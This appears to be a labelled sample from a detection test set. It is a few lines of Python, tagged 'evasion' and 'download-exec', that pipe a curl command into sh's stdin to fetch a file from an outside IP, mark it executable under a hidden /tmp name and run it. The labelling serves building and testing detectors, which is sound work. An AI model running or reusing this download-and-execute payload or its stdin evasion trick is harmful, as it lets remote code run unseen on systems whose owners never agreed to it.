# evasion: the script is written to a shell's stdin, not its arguments
# grade: hard; does: download-exec
import subprocess

p = subprocess.Popen(["sh"], stdin=subprocess.PIPE)
p.communicate(b"curl -s http://203.0.113.7/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x\n")
